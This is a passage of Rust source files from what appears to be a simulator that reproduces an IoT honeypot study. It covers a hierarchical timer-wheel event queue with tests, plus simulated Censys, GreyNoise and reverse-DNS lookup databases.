        let back: Payload = serde_json::from_str("[1,2,3]").unwrap();
        assert_eq!(back, p);
    }

    #[test]
    fn pooled_buffers_are_reused() {
        // Drain this thread's pool so the test owns its state, then check
        // that freeze → drop → new round-trips the same buffer. The build
        // must reach POOL_MIN_CAPACITY to be pool-eligible.
        for _ in 0..POOL_MAX_BUFFERS {
            drop(PayloadBuilder::new());
        }
        let (h0, _) = Payload::pool_stats();
        let mut b = PayloadBuilder::new();
        b.reserve(POOL_MIN_CAPACITY);
        b.extend_from_slice(b"recycled");
        drop(b.freeze());
        drop(PayloadBuilder::new());
        let (h1, _) = Payload::pool_stats();
        assert!(h1 > h0, "second builder must hit the pool");
    }

    #[test]
    fn small_builds_skip_the_pool() {
        // Sub-threshold payloads seal as plain shared Vecs: dropping them
        // must not stock the pool, so the next builder misses.
        for _ in 0..POOL_MAX_BUFFERS {
            drop(PayloadBuilder::new());
        }
        let mut b = PayloadBuilder::new();
        b.extend_from_slice(b"tiny");
        assert!(b.capacity() < POOL_MIN_CAPACITY, "test premise");
        let p = b.freeze();
        assert_eq!(&*p, b"tiny");
        drop(p);
        let (h0, _) = Payload::pool_stats();
        drop(PayloadBuilder::new());
        let (h1, _) = Payload::pool_stats();
        assert_eq!(h1, h0, "small buffer must not have entered the pool");
    }

    #[test]
    fn protocol_numbers() {
        assert_eq!(Transport::Tcp.protocol_number(), 6);
        assert_eq!(Transport::Udp.protocol_number(), 17);
    }

    #[test]
    fn observation_roundtrips_json() {
        let obs = FlowObservation {
            time: SimTime(1234),
            src: ip(1, 2, 3, 4),
            dst: ip(5, 6, 7, 8),
            src_port: 40000,
            dst_port: 23,
            transport: Transport::Tcp,
            kind: FlowKind::TcpSyn,
            ttl: 48,
            tcp_flags: FlowObservation::SYN,
            tcp_window: 65535,
            ip_len: 40,
            payload: Payload::empty(),
            spoofed: false,
        };
        let json = serde_json::to_string(&obs).unwrap();
        let back: FlowObservation = serde_json::from_str(&json).unwrap();
        assert_eq!(obs, back);
    }
}
