//! Hierarchical timer wheel: the event-queue core at paper scale.
//!
//! A binary heap pays `O(log n)` pointer-chasing sifts per operation, and at
//! paper scale (tens of millions of pending timeout backstops per shard) the
//! sift path stops fitting in cache. The classic alternative (Varghese &
//! Lauck's hashed/hierarchical timing wheels) buckets timers by time instead:
//! scheduling is an array push, and expiry walks an occupancy bitmap.
//!
//! ## Structure
//!
//! Time is the simulator's millisecond tick ([`crate::time::SimTime`]'s raw
//! `u64`). The innermost level (level 0) has [`L0_SLOTS`] = 256 one-tick
//! slots — wide on purpose: the simulator's dominant schedules (packet
//! latencies, retry backoffs, per-tick follow-ups) land within a few hundred
//! ticks of *now* and go straight into level 0, never paying a cascade.
//! Above it sit ten 64-slot levels; level `l ≥ 1` slots are `256·64^(l-1)`
//! ticks wide, so a tick decomposes as one 8-bit group plus ten 6-bit groups
//! (8 + 10·6 = 68 ≥ 64 bits — the wheel covers the full `u64` tick range
//! with no overflow list).
//!
//! An item with expiry `t` lives at the **highest level where `t` differs
//! from the wheel's base time `base`**: level 0 holds items expiring inside
//! the current 256-tick window, level 1 the current 16384-tick window, and
//! so on. When `base` advances into a higher-level slot, that slot's items
//! *cascade* down (each item re-places at a lower level, at most [`LEVELS`]
//! moves over its lifetime).
//!
//! ## Deterministic ordering contract
//!
//! The simulator's determinism rests on popping events in exact global
//! `(time, seq)` order — ties in simulated time break by insertion sequence
//! number (and each address shard owns an independent wheel, so the full
//! tie-break is `(time, shard, seq)` with the shard implicit). The wheel
//! guarantees this bit-for-bit compatibly with a binary heap:
//!
//! * All items in one level-0 slot share the *same* expiry tick (they agree
//!   with `base` on every bit above the bottom 8, and on the slot index
//!   below), and every slot stays seq-sorted by construction, so draining a
//!   slot into the `ready` queue is a reversal, not a sort.
//! * Items scheduled *for the current tick while the current tick drains*
//!   carry strictly larger seqs than anything already in `ready`, so
//!   re-draining the slot after `ready` empties preserves global seq order.
//! * Per-level occupancy bitmaps (4×`u64` for level 0, one `u64` per upper
//!   level) find the next expiry in `O(levels)` — no tick-by-tick scan
//!   across empty gaps, which is what makes a millisecond-grained wheel
//!   viable over a 61-day simulation.
//!
//! The differential property test (`tests/wheel_props.rs`) drives this wheel
//! and the retained binary-heap oracle ([`crate::event::HeapQueue`]) with
//! identical schedule/cancel/pop interleavings and requires identical pop
//! sequences.

use std::mem::MaybeUninit;

use crate::fasthash::FastSet;

/// Bits consumed by the innermost level: 256 one-tick slots, so schedules up
/// to ~a quarter second of sim time ahead never cascade.
const L0_BITS: u32 = 8;
/// Innermost-level slot count.
pub const L0_SLOTS: usize = 1 << L0_BITS;
/// Bits consumed per upper level: 64 slots.
const BITS: u32 = 6;
/// Slots per upper level.
pub const SLOTS: usize = 1 << BITS;
/// Upper (cascading) levels above level 0.
const UPPER_LEVELS: usize = 10;
/// Total levels: 8 + 10·6 = 68 bits cover every `u64` tick.
pub const LEVELS: usize = UPPER_LEVELS + 1;

/// A hierarchical timer wheel ordered by `(tick, seq)`.
///
/// The caller assigns strictly increasing, unique `seq` values (the event
/// queue's insertion counter) and never inserts a tick earlier than the last
/// popped tick — exactly the discipline [`crate::event::EventQueue`]
/// enforces by clamping schedules to `now`.
#[derive(Debug)]
pub struct TimerWheel<E> {
    /// `L0_SLOTS + UPPER_LEVELS·SLOTS` buckets, level-major (level 0 first):
    /// `(tick, seq, payload)`. A level-0 bucket holds only the *overflow*
    /// beyond the slot's inline first item in `l0_first`.
    slots: Vec<Vec<(u64, u64, E)>>,
    /// Inline first item of each level-0 slot. Occupied iff the slot's
    /// `occ0` bit is set; always the slot's lowest-seq live item (pushes are
    /// seq-monotone between drains, and a cascade batch — itself seq-sorted
    /// — only lands in an empty window). The single-item slot, by far the
    /// common case, thus costs one contiguous-array touch instead of a Vec
    /// header chase plus a heap-buffer access.
    l0_first: Box<[MaybeUninit<(u64, u64, E)>]>,
    /// Level-0 occupancy: one bit per slot, 4 words for 256 slots.
    occ0: [u64; L0_SLOTS / 64],
    /// Upper-level occupancy: `occ_hi[l-1]` is level `l`'s bitmap.
    occ_hi: [u64; UPPER_LEVELS],
    /// Reference time all placements are relative to. Advances to the tick
    /// of each drained slot; never exceeds the earliest pending expiry.
    base: u64,
    /// The current tick's items awaiting pop, in *descending* seq order so
    /// the next pop is an O(1) `Vec::pop` off the back (a deque's ring
    /// indexing costs more than it buys here).
    ready: Vec<(u64, E)>,
    /// Expiry tick of everything in `ready`.
    ready_tick: u64,
    /// Tombstones for [`Self::cancel`]; consumed lazily as items surface.
    cancelled: FastSet<u64>,
    /// Live (non-cancelled, un-popped) item count.
    len: usize,
}

impl<E> Default for TimerWheel<E> {
    fn default() -> Self {
        Self::new()
    }
}

/// The level at which a tick differing from `base` is stored: 0 when they
/// agree above the bottom [`L0_BITS`] bits, otherwise the upper level owning
/// the highest differing bit.
#[inline]
fn level_for(base: u64, tick: u64) -> usize {
    let diff = base ^ tick;
    if diff < (1 << L0_BITS) {
        0
    } else {
        1 + ((63 - diff.leading_zeros() - L0_BITS) / BITS) as usize
    }
}

/// Bucket index in the level-major `slots` array.
#[inline]
fn slot_index(level: usize, tick: u64) -> usize {
    if level == 0 {
        (tick & (L0_SLOTS as u64 - 1)) as usize
    } else {
        let shift = L0_BITS + BITS * (level as u32 - 1);
        L0_SLOTS + (level - 1) * SLOTS + ((tick >> shift) & (SLOTS as u64 - 1)) as usize
    }
}

/// Lowest set bit position across the level-0 bitmap, scanning from word
/// `from` (occupied level-0 slots are never below `base`'s slot, so callers
/// pass `base`'s word to skip provably-empty words).
#[inline]
fn first_occ0(occ0: &[u64; L0_SLOTS / 64], from: usize) -> Option<usize> {
    for w in from..L0_SLOTS / 64 {
        let bits = occ0[w];
        if bits != 0 {
            return Some(w * 64 + bits.trailing_zeros() as usize);
        }
    }
    None
}

impl<E> TimerWheel<E> {
    pub fn new() -> Self {
        let n = L0_SLOTS + UPPER_LEVELS * SLOTS;
        let mut slots = Vec::with_capacity(n);
        slots.resize_with(n, Vec::new);
        TimerWheel {
            slots,
            l0_first: (0..L0_SLOTS).map(|_| MaybeUninit::uninit()).collect(),
            occ0: [0; L0_SLOTS / 64],
            occ_hi: [0; UPPER_LEVELS],
            base: 0,
            ready: Vec::new(),
            ready_tick: 0,
            cancelled: FastSet::default(),
            len: 0,
        }
    }

    /// Insert an item expiring at `tick`. `seq` must be unique and `tick`
    /// must not precede the last popped tick.
    pub fn insert(&mut self, tick: u64, seq: u64, payload: E) {
        debug_assert!(tick >= self.base, "tick {tick} precedes wheel base {}", self.base);
        let level = level_for(self.base, tick);
        let idx = slot_index(level, tick);
        if level == 0 {
            let (w, bit) = (idx >> 6, 1u64 << (idx & 63));
            if self.occ0[w] & bit == 0 {
                // SAFETY: `idx` is masked to `< L0_SLOTS`, the length of
                // `l0_first` (a boxed slice, so the bound isn't visible to
                // the optimizer — this is the insert hot path).
                unsafe { self.l0_first.get_unchecked_mut(idx) }.write((tick, seq, payload));
                self.occ0[w] |= bit;
            } else {
                // SAFETY: `idx < L0_SLOTS <= slots.len()`.
                unsafe { self.slots.get_unchecked_mut(idx) }.push((tick, seq, payload));
            }
        } else {
            // SAFETY: `slot_index` returns `L0_SLOTS + (level-1)·SLOTS + s`
            // with `s < SLOTS` and `level <= UPPER_LEVELS`, i.e. within the
            // `L0_SLOTS + UPPER_LEVELS·SLOTS` buckets allocated in `new`.
            unsafe { self.slots.get_unchecked_mut(idx) }.push((tick, seq, payload));
            self.occ_hi[level - 1] |= 1 << (idx - L0_SLOTS - (level - 1) * SLOTS);
        }
        self.len += 1;
    }

    /// Cancel a pending item by its `seq`. The item must still be pending
    /// (scheduled, not yet popped or cancelled); the tombstone is consumed
    /// lazily when the item would surface.
    pub fn cancel(&mut self, seq: u64) {
        if self.cancelled.insert(seq) {
            self.len -= 1;
        }
    }

    /// Pop the earliest `(tick, seq, payload)`.
    pub fn pop(&mut self) -> Option<(u64, u64, E)> {
        // Hot path: with no tombstones outstanding, the current tick's
        // drained items pop straight off the back of `ready` — one branch,
        // one Vec pop.
        if self.cancelled.is_empty() {
            if let Some((seq, payload)) = self.ready.pop() {
                self.len -= 1;
                return Some((self.ready_tick, seq, payload));
            }
        } else if self.skim_ready() {
            let (seq, payload) = self.ready.pop().expect("skim_ready");
            self.len -= 1;
            return Some((self.ready_tick, seq, payload));
        }
        // Fast path: the placement invariant puts the global minimum in the
        // lowest occupied slot of the lowest occupied level, so when level 0
        // is occupied and that slot holds a single item, pop it directly —
        // no trip through `ready`. This is the common case (most simulation
        // ticks carry one event).
        while let Some(slot) = first_occ0(&self.occ0, (self.base as usize & (L0_SLOTS - 1)) >> 6) {
            // SAFETY: `first_occ0` returns `< L0_SLOTS <= slots.len()`.
            if !unsafe { self.slots.get_unchecked(slot) }.is_empty() {
                break; // overflowed slot: take the general drain path
            }
            // SAFETY: `slot < L0_SLOTS` = the cell array's length; the
            // slot's occ0 bit is set, so its inline cell is initialized,
            // and the bit is cleared before any other read.
            let (tick, seq, payload) =
                unsafe { self.l0_first.get_unchecked(slot).assume_init_read() };
            self.occ0[slot >> 6] &= !(1u64 << (slot & 63));
            debug_assert!(tick >= self.base);
            self.base = tick;
            if !self.cancelled.is_empty() && self.cancelled.remove(&seq) {
                continue; // tombstone consumed; the next slot may qualify too
            }
            self.len -= 1;
            return Some((tick, seq, payload));
        }
        if !self.ensure_ready() {
            return None;
        }
        let (seq, payload) = self.ready.pop().expect("ensure_ready");
        self.len -= 1;
        Some((self.ready_tick, seq, payload))
    }

    /// The earliest `(tick, seq)` without popping.
    ///
    /// Crucially this does **not** cascade: `base` must never advance past
    /// an event that was merely peeked (the simulator peeks at far-future
    /// phase timers while the current phase still schedules near-term
    /// events, and every insert requires `tick >= base`). Instead the
    /// candidate slot — lowest occupied slot of the lowest occupied level,
    /// which the placement invariant guarantees contains the global minimum
    /// — is scanned for its earliest `(tick, seq)`. Tombstoned items are
    /// pruned along the way so the answer matches what [`Self::pop`] would
    /// return.
    pub fn peek(&mut self) -> Option<(u64, u64)> {
        if self.skim_ready() {
            let &(seq, _) = self.ready.last().expect("skim_ready");
            return Some((self.ready_tick, seq));
        }
        loop {
            if let Some(slot) = first_occ0(&self.occ0, (self.base as usize & (L0_SLOTS - 1)) >> 6) {
                // The inline cell holds the slot's lowest seq, which by the
                // placement invariant is the global minimum.
                // SAFETY: the occ0 bit is set, so the cell is initialized.
                let &(tick, seq, _) = unsafe { self.l0_first[slot].assume_init_ref() };
                if !self.cancelled.is_empty() && self.cancelled.remove(&seq) {
                    // SAFETY: same cell; dropped exactly once, then either
                    // re-written from the overflow or its bit cleared.
                    unsafe { self.l0_first[slot].assume_init_drop() };
                    let cancelled = &mut self.cancelled;
                    self.slots[slot].retain(|&(_, s, _)| !cancelled.remove(&s));
                    if self.slots[slot].is_empty() {
                        self.occ0[slot >> 6] &= !(1u64 << (slot & 63));
                    } else {
                        // Promote the lowest-seq survivor into the cell.
                        let mi = self.slots[slot]
                            .iter()
                            .enumerate()
                            .min_by_key(|&(_, &(_, s, _))| s)
                            .map(|(i, _)| i)
                            .expect("slot non-empty");
                        let item = self.slots[slot].remove(mi);
                        self.l0_first[slot].write(item);
                    }
                    continue;
                }
                return Some((tick, seq));
            }
            let l = (0..UPPER_LEVELS).find(|&l| self.occ_hi[l] != 0)?;
            let s = self.occ_hi[l].trailing_zeros() as usize;
            let idx = L0_SLOTS + l * SLOTS + s;
            if !self.cancelled.is_empty() {
                let cancelled = &mut self.cancelled;
                self.slots[idx].retain(|&(_, seq, _)| !cancelled.remove(&seq));
            }
            if self.slots[idx].is_empty() {
                self.occ_hi[l] &= !(1u64 << s);
                continue;
            }
            let best = self.slots[idx]
                .iter()
                .map(|&(tick, seq, _)| (tick, seq))
                .min()
                .expect("slot non-empty");
            return Some(best);
        }
    }

    pub fn len(&self) -> usize {
        self.len
    }

    pub fn is_empty(&self) -> bool {
        self.len == 0
    }

    /// Make `ready` hold the earliest pending tick's items (next-to-pop end
    /// non-cancelled). Returns `false` iff nothing is pending.
    ///
    /// The search exploits the placement invariant: every occupied slot at
    /// level `l` agrees with `base` above its group and exceeds `base`'s
    /// group at `l` (level 0 may equal it), so the globally earliest item is
    /// always in the lowest occupied level's lowest occupied slot.
    fn ensure_ready(&mut self) -> bool {
        loop {
            if self.skim_ready() {
                return true;
            }
            if let Some(slot) = first_occ0(&self.occ0, (self.base as usize & (L0_SLOTS - 1)) >> 6) {
                // All items in a level-0 slot share one tick; drain it in
                // place (disjoint field borrows: `ready` vs `slots`), so the
                // slot keeps its buffer and steady-state churn never touches
                // the allocator. The inline cell is the slot's lowest seq and
                // the overflow Vec is already seq-ascending (pushes are
                // seq-monotone between drains, and a cascade batch — itself
                // sorted — only lands in an empty window), so reversing the
                // overflow and appending the cell last yields `ready`'s
                // descending-seq order with no sort.
                self.occ0[slot >> 6] &= !(1u64 << (slot & 63));
                // SAFETY: `slot < L0_SLOTS` (from `first_occ0`); the occ0
                // bit was set, so the cell is initialized, and the bit is
                // already cleared so it cannot be read again.
                let (tick, seq, payload) =
                    unsafe { self.l0_first.get_unchecked(slot).assume_init_read() };
                debug_assert_eq!(tick, (self.base & !(L0_SLOTS as u64 - 1)) | slot as u64);
                debug_assert!(tick >= self.base);
                debug_assert!(self.slots[slot].iter().all(|&(t, _, _)| t == tick));
                debug_assert!(self.slots[slot].windows(2).all(|w| w[0].1 < w[1].1));
                debug_assert!(self.slots[slot].first().map_or(true, |&(_, s, _)| s > seq));
                self.base = tick;
                self.ready_tick = tick;
                // SAFETY: `slot < L0_SLOTS <= slots.len()`.
                let overflow = unsafe { self.slots.get_unchecked_mut(slot) };
                self.ready
                    .extend(overflow.drain(..).rev().map(|(_, seq, p)| (seq, p)));
                self.ready.push((seq, payload));
                continue;
            }
            let Some(l) = (0..UPPER_LEVELS).find(|&l| self.occ_hi[l] != 0) else {
                return false;
            };
            let level = l + 1;
            let slot = self.occ_hi[l].trailing_zeros() as usize;
            self.occ_hi[l] &= !(1u64 << slot);
            // Enter the slot's window and cascade its items down. A cascade
            // only ever moves items to *lower* levels (the placement
            // invariant), so splitting the slot array at this level lets the
            // source drain in place while its items push into lower-level
            // slots — no buffer swap, no allocation.
            let shift = L0_BITS + BITS * l as u32;
            // Mask selecting the groups *above* this level (the slot's
            // enclosing window); the top level's window is all of time.
            let window = match shift + BITS {
                w if w >= 64 => 0,
                w => !((1u64 << w) - 1),
            };
            let new_base = (self.base & window) | ((slot as u64) << shift);
            debug_assert!(new_base > self.base);
            self.base = new_base;
            let split = L0_SLOTS + l * SLOTS;
            let (lower, upper) = self.slots.split_at_mut(split);
            let occ0 = &mut self.occ0;
            let occ_hi = &mut self.occ_hi;
            let l0_first = &mut self.l0_first;
            for (tick, seq, payload) in upper[slot].drain(..) {
                let lv = level_for(new_base, tick);
                debug_assert!(lv < level);
                let idx = slot_index(lv, tick);
                if lv == 0 {
                    let (w, bit) = (idx >> 6, 1u64 << (idx & 63));
                    if occ0[w] & bit == 0 {
                        // SAFETY: `idx` is masked to `< L0_SLOTS`.
                        unsafe { l0_first.get_unchecked_mut(idx) }.write((tick, seq, payload));
                        occ0[w] |= bit;
                    } else {
                        // SAFETY: `idx < L0_SLOTS <= lower.len()` (the split
                        // is at `L0_SLOTS + l·SLOTS`).
                        unsafe { lower.get_unchecked_mut(idx) }.push((tick, seq, payload));
                    }
                } else {
                    // SAFETY: `lv < level`, so `slot_index` returns
                    // `< L0_SLOTS + l·SLOTS`, the split point.
                    unsafe { lower.get_unchecked_mut(idx) }.push((tick, seq, payload));
                    occ_hi[lv - 1] |= 1 << (idx - L0_SLOTS - (lv - 1) * SLOTS);
                }
            }
        }
    }

    /// Drop tombstoned items off the back of `ready` (the next-to-pop end);
    /// `true` iff a live item remains.
    fn skim_ready(&mut self) -> bool {
        while let Some(&(seq, _)) = self.ready.last() {
            if !self.cancelled.is_empty() && self.cancelled.remove(&seq) {
                self.ready.pop();
            } else {
                return true;
            }
        }
        false
    }
}

impl<E> Drop for TimerWheel<E> {
    fn drop(&mut self) {
        // Vec buckets drop themselves; only the occupied inline cells need
        // manual drops (their occ0 bits say which are initialized).
        if std::mem::needs_drop::<E>() {
            for slot in 0..L0_SLOTS {
                if self.occ0[slot >> 6] & (1u64 << (slot & 63)) != 0 {
                    // SAFETY: bit set ⟺ cell initialized, dropped only here.
                    unsafe { self.l0_first[slot].assume_init_drop() };
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn drain(w: &mut TimerWheel<&'static str>) -> Vec<(u64, u64, &'static str)> {
        std::iter::from_fn(|| w.pop()).collect()
    }

    #[test]
    fn pops_in_time_then_seq_order() {
        let mut w = TimerWheel::new();
        w.insert(30, 0, "c");
        w.insert(10, 1, "a");
        w.insert(10, 2, "a2");
        w.insert(20, 3, "b");
        assert_eq!(
            drain(&mut w),
            vec![(10, 1, "a"), (10, 2, "a2"), (20, 3, "b"), (30, 0, "c")]
        );
    }

    #[test]
    fn far_future_items_cross_levels() {
        let mut w = TimerWheel::new();
        // One item per level boundary: small offsets plus window crossings.
        let ticks = [1u64, 255, 256, 16_383, 16_384, 1 << 20, 1 << 30, 5_356_800_000];
        for (i, &t) in ticks.iter().enumerate() {
            w.insert(t, i as u64, "x");
        }
        let popped: Vec<u64> = std::iter::from_fn(|| w.pop()).map(|(t, _, _)| t).collect();
        let mut sorted = ticks.to_vec();
        sorted.sort_unstable();
        assert_eq!(popped, sorted);
    }

    #[test]
    fn same_tick_insert_during_drain_preserves_seq_order() {
        let mut w = TimerWheel::new();
        w.insert(5, 0, "first");
        w.insert(5, 1, "second");
        assert_eq!(w.pop(), Some((5, 0, "first")));
        // Scheduled for the tick currently draining: larger seq, pops after.
        w.insert(5, 2, "third");
        assert_eq!(w.pop(), Some((5, 1, "second")));
        assert_eq!(w.pop(), Some((5, 2, "third")));
        assert_eq!(w.pop(), None);
    }

    #[test]
    fn cancel_removes_item() {
        let mut w = TimerWheel::new();
        w.insert(10, 0, "keep");
        w.insert(10, 1, "drop");
        w.insert(20, 2, "keep2");
        w.cancel(1);
        assert_eq!(w.len(), 2);
        assert_eq!(drain(&mut w), vec![(10, 0, "keep"), (20, 2, "keep2")]);
    }

    #[test]
    fn peek_matches_pop() {
        let mut w = TimerWheel::new();
        w.insert(1 << 20, 7, "far");
        w.insert(3, 9, "near");
        assert_eq!(w.peek(), Some((3, 9)));
        assert_eq!(w.pop(), Some((3, 9, "near")));
        assert_eq!(w.peek(), Some((1 << 20, 7)));
        assert_eq!(w.pop(), Some((1 << 20, 7, "far")));
        assert_eq!(w.peek(), None);
    }

    #[test]
    fn empty_gaps_are_skipped_not_walked() {
        // A 61-day gap (5.3e9 ticks) must resolve via bitmaps, not ticks.
        let mut w = TimerWheel::new();
        w.insert(5_356_800_000, 0, "month-end");
        assert_eq!(w.pop(), Some((5_356_800_000, 0, "month-end")));
    }
}
