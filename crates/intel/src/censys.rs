//! Censys stand-in: the "iot" device tag.
//!
//! §5.3 extends the infected-host search with Censys' labelled dataset: IPs
//! that Censys' periodic scans have tagged `iot` (the paper found 1,671
//! additional IoT attackers this way, mostly cameras, routers and IP
//! phones). Censys only tags what its own scans reached and recognized, so
//! the oracle applies a coverage probability on ingest.

use std::collections::HashMap;
use std::net::Ipv4Addr;

use rand::Rng;

/// The Censys host-tag database.
#[derive(Debug, Clone, Default)]
pub struct CensysDb {
    /// IP -> device type label (e.g. "camera", "router", "ip phone").
    tagged: HashMap<Ipv4Addr, String>,
}

impl CensysDb {
    pub fn new() -> Self {
        Self::default()
    }

    /// Ingest a ground-truth IoT device; Censys tags it with probability
    /// `coverage`.
    pub fn ingest(
        &mut self,
        rng: &mut impl Rng,
        addr: Ipv4Addr,
        device_type: &str,
        coverage: f64,
    ) {
        if rng.gen_bool(coverage.clamp(0.0, 1.0)) {
            self.tagged.insert(addr, device_type.to_string());
        }
    }

    /// Whether Censys returns the "iot" tag for this IP.
    pub fn is_tagged_iot(&self, addr: Ipv4Addr) -> bool {
        self.tagged.contains_key(&addr)
    }

    /// The device type Censys recorded, if tagged.
    pub fn device_type(&self, addr: Ipv4Addr) -> Option<&str> {
        self.tagged.get(&addr).map(String::as_str)
    }

    pub fn len(&self) -> usize {
        self.tagged.len()
    }

    pub fn is_empty(&self) -> bool {
        self.tagged.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::rng::rng_for;

    #[test]
    fn tagging_and_lookup() {
        let mut db = CensysDb::new();
        let mut rng = rng_for(9, "censys");
        let cam: Ipv4Addr = "198.51.100.7".parse().unwrap();
        db.ingest(&mut rng, cam, "camera", 1.0);
        assert!(db.is_tagged_iot(cam));
        assert_eq!(db.device_type(cam), Some("camera"));
        assert!(!db.is_tagged_iot("198.51.100.8".parse().unwrap()));
    }

    #[test]
    fn coverage_is_partial() {
        let mut db = CensysDb::new();
        let mut rng = rng_for(9, "censys");
        for i in 0..1000u32 {
            db.ingest(&mut rng, Ipv4Addr::from(i), "router", 0.5);
        }
        assert!(db.len() > 380 && db.len() < 620, "got {}", db.len());
    }
}
