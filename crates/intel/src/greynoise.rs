//! GreyNoise stand-in: benign / malicious / unknown labels for source IPs.
//!
//! Fig. 5 compares the study's own scanning-service classification against
//! GreyNoise. GreyNoise sees the Internet through *its own* sensor fleet, so
//! its coverage differs from ours: the paper found 2,023 IPs GreyNoise did
//! not identify, and notes GreyNoise misses several (mostly European)
//! cybersecurity-rating scanners. The oracle reproduces that mechanism:
//! ground-truth labels are inserted with a per-source coverage probability,
//! and sources marked `europe_only` are systematically missed (GreyNoise's
//! sensors under-sample them).

use std::collections::HashMap;
use std::net::Ipv4Addr;

use rand::Rng;
use serde::{Deserialize, Serialize};

/// GreyNoise's three-way classification.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum GreyNoiseLabel {
    /// Known benign scanner (Shodan, Censys, research scanners…).
    Benign,
    Malicious,
    Unknown,
}

/// The GreyNoise database oracle.
#[derive(Debug, Clone, Default)]
pub struct GreyNoiseDb {
    entries: HashMap<Ipv4Addr, GreyNoiseLabel>,
}

impl GreyNoiseDb {
    pub fn new() -> Self {
        Self::default()
    }

    /// Ingest a ground-truth source. `coverage` is the probability GreyNoise
    /// has observed this source at all; sources flagged `europe_only` are
    /// never covered (the paper's explanation for its higher AMQP/Telnet/MQTT
    /// counts: region-limited rating-platform scanners).
    pub fn ingest(
        &mut self,
        rng: &mut impl Rng,
        addr: Ipv4Addr,
        truth: GreyNoiseLabel,
        coverage: f64,
        europe_only: bool,
    ) {
        if europe_only {
            return;
        }
        if rng.gen_bool(coverage.clamp(0.0, 1.0)) {
            self.entries.insert(addr, truth);
        }
    }

    /// Force an entry (used in tests and for well-known scanner ranges that
    /// GreyNoise always knows).
    pub fn insert(&mut self, addr: Ipv4Addr, label: GreyNoiseLabel) {
        self.entries.insert(addr, label);
    }

    /// GreyNoise's answer for `addr`; `None` means "no data" (the 2,023-IP
    /// gap of Fig. 5).
    pub fn lookup(&self, addr: Ipv4Addr) -> Option<GreyNoiseLabel> {
        self.entries.get(&addr).copied()
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::rng::rng_for;

    fn a(n: u32) -> Ipv4Addr {
        Ipv4Addr::from(n)
    }

    #[test]
    fn full_coverage_ingest() {
        let mut db = GreyNoiseDb::new();
        let mut rng = rng_for(1, "gn");
        db.ingest(&mut rng, a(1), GreyNoiseLabel::Benign, 1.0, false);
        assert_eq!(db.lookup(a(1)), Some(GreyNoiseLabel::Benign));
    }

    #[test]
    fn europe_only_sources_invisible() {
        let mut db = GreyNoiseDb::new();
        let mut rng = rng_for(1, "gn");
        db.ingest(&mut rng, a(2), GreyNoiseLabel::Benign, 1.0, true);
        assert_eq!(db.lookup(a(2)), None);
    }

    #[test]
    fn partial_coverage_is_partial_and_deterministic() {
        let build = || {
            let mut db = GreyNoiseDb::new();
            let mut rng = rng_for(7, "gn");
            for i in 0..1000u32 {
                db.ingest(&mut rng, a(i), GreyNoiseLabel::Malicious, 0.8, false);
            }
            db
        };
        let db1 = build();
        let db2 = build();
        assert_eq!(db1.len(), db2.len());
        assert!(db1.len() > 700 && db1.len() < 900, "got {}", db1.len());
    }
}
