//! Reverse DNS registry.
//!
//! §5.3 performs reverse lookups of attack sources, finding 797 registered
//! domains (427 with webpages — default WordPress sites, Apache test pages,
//! fake shops), one Telnet malware source registered as a UK restaurant
//! website (§5.1.1), and duplicate DNS entries across two CoAP flood sources
//! (§5.1.3 — the reflection hint). The registry supports exactly those
//! queries: IP → domain, domain → IPs, and "does this domain resolve to more
//! addresses than the one observed".

use std::collections::HashMap;
use std::net::Ipv4Addr;

/// Facts recorded about a registered domain.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct DomainInfo {
    /// Whether an HTTP webpage is served.
    pub has_webpage: bool,
    /// Free-form description of the page ("default wordpress site", …).
    pub webpage_kind: String,
}

/// The reverse-DNS database.
#[derive(Debug, Clone, Default)]
pub struct ReverseDns {
    ptr: HashMap<Ipv4Addr, String>,
    forward: HashMap<String, Vec<Ipv4Addr>>,
    info: HashMap<String, DomainInfo>,
}

impl ReverseDns {
    pub fn new() -> Self {
        Self::default()
    }

    /// Register `domain` at `addr` (a domain may span multiple addresses —
    /// the /29 and /30 subnets of §5.3).
    pub fn register(&mut self, addr: Ipv4Addr, domain: &str, info: DomainInfo) {
        self.ptr.insert(addr, domain.to_string());
        self.forward.entry(domain.to_string()).or_default().push(addr);
        self.info.entry(domain.to_string()).or_insert(info);
    }

    /// PTR lookup: the domain for an IP, if registered.
    pub fn domain_of(&self, addr: Ipv4Addr) -> Option<&str> {
        self.ptr.get(&addr).map(String::as_str)
    }

    /// Forward lookup: all addresses serving a domain.
    pub fn addresses_of(&self, domain: &str) -> &[Ipv4Addr] {
        self.forward.get(domain).map(Vec::as_slice).unwrap_or(&[])
    }

    pub fn domain_info(&self, domain: &str) -> Option<&DomainInfo> {
        self.info.get(domain)
    }

    /// Whether two addresses share a DNS entry — the paper's duplicate-entry
    /// reflection indicator.
    pub fn share_domain(&self, a: Ipv4Addr, b: Ipv4Addr) -> bool {
        match (self.domain_of(a), self.domain_of(b)) {
            (Some(da), Some(db)) => da == db,
            _ => false,
        }
    }

    /// Distinct registered domains.
    pub fn domain_count(&self) -> usize {
        self.forward.len()
    }

    /// Domains with webpages.
    pub fn webpage_count(&self) -> usize {
        self.info.values().filter(|i| i.has_webpage).count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn a(s: &str) -> Ipv4Addr {
        s.parse().unwrap()
    }

    #[test]
    fn ptr_and_forward() {
        let mut db = ReverseDns::new();
        db.register(
            a("192.0.2.10"),
            "restaurant.example.co.uk",
            DomainInfo {
                has_webpage: true,
                webpage_kind: "restaurant website".into(),
            },
        );
        db.register(a("192.0.2.11"), "restaurant.example.co.uk", DomainInfo::default());
        assert_eq!(db.domain_of(a("192.0.2.10")), Some("restaurant.example.co.uk"));
        assert_eq!(db.addresses_of("restaurant.example.co.uk").len(), 2);
        assert!(db.share_domain(a("192.0.2.10"), a("192.0.2.11")));
        assert!(!db.share_domain(a("192.0.2.10"), a("192.0.2.99")));
        assert_eq!(db.domain_count(), 1);
        assert_eq!(db.webpage_count(), 1);
    }

    #[test]
    fn unregistered_lookups() {
        let db = ReverseDns::new();
        assert_eq!(db.domain_of(a("8.8.8.8")), None);
        assert!(db.addresses_of("nothing.example").is_empty());
    }
}
