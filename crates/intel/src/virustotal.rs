//! VirusTotal stand-in: vendor "positive" scores for IPs, URLs and file
//! hashes.
//!
